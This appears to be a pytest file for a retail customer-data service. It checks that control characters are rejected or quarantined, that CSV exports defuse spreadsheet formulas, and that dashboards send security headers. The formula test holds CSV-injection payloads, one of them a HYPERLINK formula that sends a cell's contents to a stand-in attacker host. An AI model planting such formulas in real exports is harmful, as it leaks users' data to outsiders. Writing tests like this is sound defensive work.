"""Issue 14, findings 11, 12 and 14 (dashboards), replayed over HTTP on SQLite and PostgreSQL.

11. A NUL byte in an import, a segment name or a store name gave a 500 on PostgreSQL and left the
    import unfinished: control characters are now a 422 at the boundary on every backend, and the
    importer quarantines such rows with a reason (and finishes).
12. Segment CSV exports now neutralise cells a spreadsheet would run as a formula (``= + - @``).
14. The dashboards send a Content-Security-Policy and X-Frame-Options.
"""

# ruff: noqa: F811 (the cloud fixtures are imported by name, then taken as test arguments)
from __future__ import annotations

import csv
import io

import pytest

from tests.cloud.conftest import db_location, face_engine, pg_database, start_cloud  # noqa: F401 (fixtures)

TMALL = ("订单编号,买家会员名,收货人手机号,付款时间,商品编码,类目,购买数量,商品单价,实付金额,订单状态,币种\n"
         "T1,nick_a,13800138000,2025-03-01 20:15:00,SKU1,护肤,1,199,199,交易成功,CNY\n"
         "T2,nick\x00b,13800138001,2025-03-01 20:16:00,SKU1,护肤,1,199,199,交易成功,CNY\n"
         "T3,nick_c,13800138002,2025-03-01 20:17:00,SKU1,护\x01肤,1,199,199,交易成功,CNY\n")


@pytest.mark.parametrize(("path", "body"), [
    ("/v1/segments", {"name": "vip\x00", "condition": {"consent": {"face": False}}}),
    ("/v1/segments", {"name": "vip", "condition": {"bought": {"category": "护\x00肤"}}}),
    ("/v1/segments/count", {"condition": {"store": "s\x001"}}),
    ("/v1/stores", {"id": "s9", "brand": "acme", "name": "旗舰店\x00"}),
    ("/v1/members", {"name": "王芳", "phone": "13800138000", "consent": {"face": False}, "tags": ["vip\x1b"]}),
    ("/v1/keys", {"name": "Li\x00Wei", "role": "hq_analyst"}),
    ("PUT /v1/tags/rules", {"name": "t\x00", "condition": {"consent": {"face": False}}}),
])
def test_control_characters_are_a_422_on_every_backend(start_cloud, path: str, body: dict) -> None:
    client, _ = start_cloud()
    method, _, path = path.rpartition(" ")
    answer = client.request(method or "POST", path, json=body)
    assert answer.status_code == 422, answer.text
    assert "control characters" in answer.text


def test_an_import_quarantines_rows_with_control_characters_and_finishes(start_cloud) -> None:
    client, runtime = start_cloud()
    answer = client.post("/v1/imports?channel=tmall", files={"file": ("tmall.csv", TMALL.encode())})
    assert answer.status_code == 201, answer.text
    report = answer.json()
    assert report["orders"] == 1 and report["quarantined"] == {"control_characters": 2}
    assert runtime.db.scalar("SELECT finished FROM imports WHERE id = ?", (report["import_id"],)) is not None
    rows = client.get(f"/v1/imports/{report['import_id']}/quarantine").json()["items"]
    assert {r["reason"] for r in rows} == {"control_characters"}


def test_segment_exports_do_not_hand_spreadsheets_a_formula(start_cloud) -> None:
    client, _ = start_cloud()
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)"]
    members = "member_card,phone,name,gender,store,face_consent\n" + "".join(
        f'MC{n},1380013800{n},"{name.replace(chr(34), chr(34) * 2)}",女,s1,否\n' for n, name in enumerate(evil))
    imported = client.post("/v1/imports?channel=members", files={"file": ("crm.csv", members.encode())})
    assert imported.status_code == 201, imported.text
    saved = client.post("/v1/segments", json={"name": "everyone", "condition": {"consent": {"face": False}}}).json()
    exported = client.get(f"/v1/segments/{saved['id']}/export.csv")
    names = [row["name"] for row in csv.DictReader(io.StringIO(exported.text))]
    assert sorted(names) == sorted("'" + name for name in evil)


def test_dashboards_send_a_content_security_policy_and_refuse_framing(start_cloud) -> None:
    client, _ = start_cloud()
    for page in ("/dash/", "/dash/hq.html", "/dash/store.html", "/dash/live.html"):
        answer = client.get(page)
        assert answer.status_code == 200
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert answer.headers["x-frame-options"] == "DENY" and answer.headers["x-content-type-options"] == "nosniff"
